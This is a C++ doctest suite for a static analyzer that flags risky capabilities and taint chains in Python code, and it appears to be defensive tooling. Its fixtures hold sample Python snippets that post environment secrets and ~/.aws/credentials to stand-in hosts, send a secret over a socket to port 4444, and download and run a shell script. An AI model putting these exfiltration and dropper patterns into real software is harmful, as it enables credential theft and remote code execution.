#define DOCTEST_CONFIG_IMPLEMENT_WITH_MAIN
#include <doctest.h>

#include <algorithm>
#include <string>
#include <vector>

#include "biv/analyzers.hpp"

using namespace biv;

namespace {

SourceDocument make_doc(std::string path, std::string text) {
  SourceDocument doc;
  doc.path = std::move(path);
  doc.modality = Modality::Code;
  doc.language_tag = LanguageTag::Python;
  doc.text = std::move(text);
  doc.start_line = 1;
  return doc;
}

AnalyzerOutput run_python(const SourceDocument& doc, bool parallel = false) {
  return analyze_python({&doc}, parallel);
}

bool has_detection(const AnalyzerOutput& out, CapabilityId cap) {
  return std::any_of(out.detections.begin(), out.detections.end(),
                     [&](const Detection& d) { return d.capability == cap; });
}

const Detection* find_detection(const AnalyzerOutput& out, CapabilityId cap) {
  for (const auto& d : out.detections)
    if (d.capability == cap) return &d;
  return nullptr;
}

const FlowChain* find_chain(const AnalyzerOutput& out, CapabilityId source, CapabilityId sink) {
  for (const auto& c : out.chains)
    if (c.source == source && c.sink == sink) return &c;
  return nullptr;
}

}  // namespace

TEST_CASE("call table covers the capability vocabulary") {
  const SourceDocument doc = make_doc("pkg/calls.py", R"(import os
import subprocess
import base64
import hashlib
import zlib
import keyring
import socket

os.environ['MY_API_TOKEN']
os.environ['CONFIG_PATH']
os.environ.items()
subprocess.run(['ls'])
subprocess.run('ls', shell=True)
os.system('uname -a')
base64.b64encode(b'x')
hashlib.sha256(b'x')
zlib.compress(b'x')
keyring.get_password('svc', 'user')
keyring.set_password('svc', 'user', 'pw')
os.listdir('.')
os.remove('scratch.txt')
input()
socket.create_connection(('collect.example.org', 443))
)");
  const AnalyzerOutput out = run_python(doc);
  CHECK(out.warnings.empty());
  CHECK(has_detection(out, CapabilityId::EnvAccessSensitive));
  CHECK(has_detection(out, CapabilityId::EnvAccessSpecific));
  CHECK(has_detection(out, CapabilityId::EnvAccessBulk));
  CHECK(has_detection(out, CapabilityId::ProcessExec));
  CHECK(has_detection(out, CapabilityId::ProcessExecShell));
  CHECK(has_detection(out, CapabilityId::EncodingBase64));
  CHECK(has_detection(out, CapabilityId::EncodingCrypto));
  CHECK(has_detection(out, CapabilityId::EncodingCompression));
  CHECK(has_detection(out, CapabilityId::CredentialRead));
  CHECK(has_detection(out, CapabilityId::CredentialCreate));
  CHECK(has_detection(out, CapabilityId::FileEnumerate));
  CHECK(has_detection(out, CapabilityId::FileDelete));
  CHECK(has_detection(out, CapabilityId::FileReadProject));  // user input maps here
  CHECK(has_detection(out, CapabilityId::NetworkOutboundSocket));

  const Detection* env = find_detection(out, CapabilityId::EnvAccessSensitive);
  REQUIRE(env != nullptr);
  CHECK(env->file == "pkg/calls.py");
  CHECK(env->line == 9);
  CHECK(env->evidence.find("MY_API_TOKEN") != std::string::npos);
  CHECK(env->analyzer == AnalyzerKind::PythonAst);
}

TEST_CASE("eval splits literal and dynamic code") {
  const SourceDocument doc = make_doc("pkg/e.py", R"(code = build()
eval('1 + 1')
eval(code)
)");
  const AnalyzerOutput out = run_python(doc);
  CHECK(has_detection(out, CapabilityId::CodeEval));
  CHECK(has_detection(out, CapabilityId::CodeEvalDynamic));
}

TEST_CASE("file modes split reads from writes, with path classification") {
  const SourceDocument doc = make_doc("pkg/f.py", R"(import os
open('notes.txt').read()
open('out.log', 'w')
open(os.path.expanduser('~/.aws/credentials')).read()
open(os.path.expanduser('~/.bashrc'), 'a')
)");
  const AnalyzerOutput out = run_python(doc);
  CHECK(has_detection(out, CapabilityId::FileReadProject));
  CHECK(has_detection(out, CapabilityId::FileWrite));
  CHECK(has_detection(out, CapabilityId::FileReadSensitive));
  CHECK(has_detection(out, CapabilityId::FileWriteSensitive));
}

TEST_CASE("intra-procedural taint chain: env -> base64 -> http") {
  const SourceDocument doc = make_doc("pkg/post.py", R"(import os
import base64
import requests

def notify(user):
    token = os.environ['MSG_BOT_TOKEN']
    payload = base64.b64encode(token.encode())
    requests.post('https://collect.example.org/ingest', data=payload)
)");
  const AnalyzerOutput out = run_python(doc);
  const FlowChain* chain =
      find_chain(out, CapabilityId::EnvAccessSensitive, CapabilityId::NetworkOutboundHttp);
  REQUIRE(chain != nullptr);
  CHECK(chain->transforms == std::vector<CapabilityId>{CapabilityId::EncodingBase64});
  CHECK(chain->scope == ChainScope::IntraProcedural);
  CHECK(chain->source_class == SourceClass::Environment);
  REQUIRE(chain->sites.size() == 3);
  CHECK(chain->sites[0].line == 6);
  CHECK(chain->sites[1].line == 7);
  CHECK(chain->sites[2].line == 8);
  CHECK(chain_is_exfil(*chain));
}

TEST_CASE("inter-procedural chain via function summaries") {
  const SourceDocument doc = make_doc("pkg/split.py", R"(import os
import requests

def send(data):
    requests.post('https://sink.example.org/x', data=data)

def main():
    secret = os.environ['AWS_SECRET_KEY']
    send(secret)
)");
  const AnalyzerOutput out = run_python(doc);
  const FlowChain* chain =
      find_chain(out, CapabilityId::EnvAccessSensitive, CapabilityId::NetworkOutboundHttp);
  REQUIRE(chain != nullptr);
  CHECK(chain->scope == ChainScope::InterProcedural);
  CHECK(chain->transforms.empty());
}

TEST_CASE("returned taint crosses function boundaries") {
  const SourceDocument doc = make_doc("pkg/ret.py", R"(import os
import requests

def fetch_token():
    return os.environ['SERVICE_SECRET']

def run():
    requests.post('https://sink.example.org/x', data=fetch_token())
)");
  const AnalyzerOutput out = run_python(doc);
  const FlowChain* chain =
      find_chain(out, CapabilityId::EnvAccessSensitive, CapabilityId::NetworkOutboundHttp);
  REQUIRE(chain != nullptr);
  CHECK(chain->scope == ChainScope::InterProcedural);
}

TEST_CASE("dropper: download, write, then execute the written path") {
  const SourceDocument doc = make_doc("pkg/drop.py", R"(import urllib.request
import subprocess

urllib.request.urlretrieve('https://cdn.example.net/tool.sh', '/tmp/tool.sh')
subprocess.run(['bash', '/tmp/tool.sh'])
)");
  const AnalyzerOutput out = run_python(doc);
  CHECK(has_detection(out, CapabilityId::NetworkOutboundHttp));
  CHECK(has_detection(out, CapabilityId::FileWrite));
  CHECK(has_detection(out, CapabilityId::ProcessExec));
  const FlowChain* rce =
      find_chain(out, CapabilityId::NetworkOutboundHttp, CapabilityId::ProcessExec);
  REQUIRE(rce != nullptr);
  CHECK(rce->transforms == std::vector<CapabilityId>{CapabilityId::FileWrite});
  CHECK(rce->source_class == SourceClass::NetworkResponse);
  CHECK(chain_is_rce(*rce));
}

TEST_CASE("write handles carry taint into file sinks through with-blocks") {
  const SourceDocument doc = make_doc("pkg/w.py", R"(import os

def dump():
    blob = os.environ['EXPORT_TOKEN']
    with open('/tmp/out.bin', 'wb') as f:
        f.write(blob)
)");
  const AnalyzerOutput out = run_python(doc);
  const FlowChain* chain =
      find_chain(out, CapabilityId::EnvAccessSensitive, CapabilityId::FileWrite);
  REQUIRE(chain != nullptr);
  CHECK(chain->source_class == SourceClass::Environment);
}

TEST_CASE("pathlib string building reaches the sensitive-read classifier") {
  const SourceDocument doc = make_doc("pkg/p.py", R"(import pathlib
import requests

def leak():
    p = pathlib.Path.home() / '.aws' / 'credentials'
    text = p.read_text()
    requests.post('https://sink.example.org/c', data=text)
)");
  const AnalyzerOutput out = run_python(doc);
  CHECK(has_detection(out, CapabilityId::FileReadSensitive));
  const FlowChain* chain =
      find_chain(out, CapabilityId::FileReadSensitive, CapabilityId::NetworkOutboundHttp);
  REQUIRE(chain != nullptr);
  CHECK(chain_is_exfil(*chain));
}

TEST_CASE("socket lifecycle: connect/send are outbound, bind/listen inbound") {
  const SourceDocument doc = make_doc("pkg/s.py", R"(import socket
import os

def client():
    s = socket.socket()
    s.connect(('198.51.100.9', 4444))
    s.send(os.environ['NODE_SECRET'].encode())

def server():
    s = socket.socket()
    s.bind(('0.0.0.0', 8080))
    s.listen()
)");
  const AnalyzerOutput out = run_python(doc);
  CHECK(has_detection(out, CapabilityId::NetworkOutboundSocket));
  CHECK(has_detection(out, CapabilityId::NetworkInbound));
  const FlowChain* chain =
      find_chain(out, CapabilityId::EnvAccessSensitive, CapabilityId::NetworkOutboundSocket);
  REQUIRE(chain != nullptr);
  CHECK(chain_is_exfil(*chain));
}

TEST_CASE("parse failure falls back to the literal scanner with a warning") {
  const SourceDocument doc = make_doc("pkg/broken.py", R"(x = 'unterminated
import requests
requests.post('https://sink.example.org/x')
os.environ['API_TOKEN']
)");
  const AnalyzerOutput out = run_python(doc);
  REQUIRE(out.warnings.size() == 1);
  CHECK(out.warnings[0].find("pkg/broken.py") != std::string::npos);
  CHECK(out.warnings[0].find("literal fallback") != std::string::npos);
  CHECK(has_detection(out, CapabilityId::NetworkOutboundHttp));
  CHECK(has_detection(out, CapabilityId::EnvAccessSensitive));
  // The literal scanner has no data flow; co-occurrence pairing still links
  // the sensitive source to the network sink within the file.
  const FlowChain* chain =
      find_chain(out, CapabilityId::EnvAccessSensitive, CapabilityId::NetworkOutboundHttp);
  REQUIRE(chain != nullptr);
  CHECK(chain->scope == ChainScope::IntraFileCoOccurrence);
}

TEST_CASE("detections are deduplicated per capability, file, and line") {
  const SourceDocument doc = make_doc("pkg/dup.py", R"(import os
x = os.environ['A_TOKEN'] + os.environ['A_TOKEN']
)");
  const AnalyzerOutput out = run_python(doc);
  std::size_t count = 0;
  for (const auto& d : out.detections)
    if (d.capability == CapabilityId::EnvAccessSensitive) ++count;
  CHECK(count == 1);
}

TEST_CASE("parallel analysis produces identical output") {
  std::vector<SourceDocument> docs;
  docs.push_back(make_doc("pkg/a.py", R"(import os
import requests
requests.post('https://a.example.org', data=os.environ['A_KEY'])
)"));
  docs.push_back(make_doc("pkg/b.py", R"(import subprocess
subprocess.run(['uname', '-a'])
)"));
  docs.push_back(make_doc("pkg/c.py", R"(import base64
base64.b64decode('aGk=')
)"));
  std::vector<const SourceDocument*> ptrs;
  for (const auto& d : docs) ptrs.push_back(&d);

  const AnalyzerOutput serial = analyze_python(ptrs, false);
  const AnalyzerOutput parallel = analyze_python(ptrs, true);

  REQUIRE(serial.detections.size() == parallel.detections.size());
  for (std::size_t i = 0; i < serial.detections.size(); ++i) {
    CHECK(serial.detections[i].capability == parallel.detections[i].capability);
    CHECK(serial.detections[i].file == parallel.detections[i].file);
    CHECK(serial.detections[i].line == parallel.detections[i].line);
  }
  CHECK(serial.chains == parallel.chains);
  CHECK(serial.warnings == parallel.warnings);
}

TEST_CASE("start_line offsets shift reported lines") {
  SourceDocument doc = make_doc("pkg/frag.py", "import os\nos.environ['X_TOKEN']\n");
  doc.start_line = 40;  // fragment extracted from a larger file
  const AnalyzerOutput out = run_python(doc);
  const Detection* env = find_detection(out, CapabilityId::EnvAccessSensitive);
  REQUIRE(env != nullptr);
  CHECK(env->line == 41);
}

TEST_CASE("python manifest carries its version and call paths") {
  const std::string manifest = python_patterns_manifest_json();
  CHECK(manifest.find("py-patterns/v1") != std::string::npos);
  CHECK(manifest.find("requests.post") != std::string::npos);
  CHECK(manifest.find("keyring.get_password") != std::string::npos);
}
